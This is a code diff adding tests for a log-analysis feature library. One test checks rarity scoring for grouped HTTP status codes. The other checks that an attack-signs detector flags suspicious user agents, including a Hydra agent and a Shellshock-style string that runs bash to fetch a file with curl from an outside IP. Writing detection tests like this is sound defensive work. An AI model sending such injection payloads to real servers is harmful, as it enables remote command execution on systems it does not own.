@@ -58,6 +58,13 @@ describe('the severity of a status', () => {
       valueOf(grouped, { status: 404, service: 'cart' }),
     );
   });
+  it('is no rarer than all of training can tell, however many groups hold the same logs', () => {
+    const rarest = 3 * Math.log((requests.length + 1) / 0.5);
+    const nested = learn({ type: 'severity', field: 'status', by: ['service', 'method', { route: 'url' }] });
+    const never = { status: 500, service: 'cart', method: 'GET', url: '/cart/7/items?page=1' };
+    expect(valueOf(nested, never)).toBeCloseTo(rarest, 3);
+    expect(valueOf(nested, { ...never, method: 'PUT' })).toBeLessThan(rarest);
+  });
 });
 
 describe('a number compared with its service, method and route', () => {
@@ -177,6 +184,15 @@ describe('signs of attacks', () => {
         1,
       );
     }
+  });
+  it('are patterns alone where texts are written with marks, as user agents are', () => {
+    const agents = requests.map((log, i) => ({ ...log, agent: `Mozilla/5.0 (X11; Linux; rv:${i % 90}.0)` }));
+    const definition = featureSchema.parse({ type: 'attack_signs', field: 'agent' });
+    const { encoder: ofAgents } = learnFeatures([definition], agents, { timestampField: '@timestamp' });
+    const signs = (agent: string): number => ofAgents.encode([{ ...usual, agent }]).values[0];
+    expect(signs('Browser/9.1 (Phone; U; Model (7); {beta}; (new); $1)')).toBe(0);
+    expect(signs('Mozilla/5.0 (compatible; MSIE 6.0; Hydra)')).toBeGreaterThan(1);
+    expect(signs('() { :; }; /bin/bash -c "curl http://203.0.113.9/a"')).toBeGreaterThan(1);
   });
 });
 
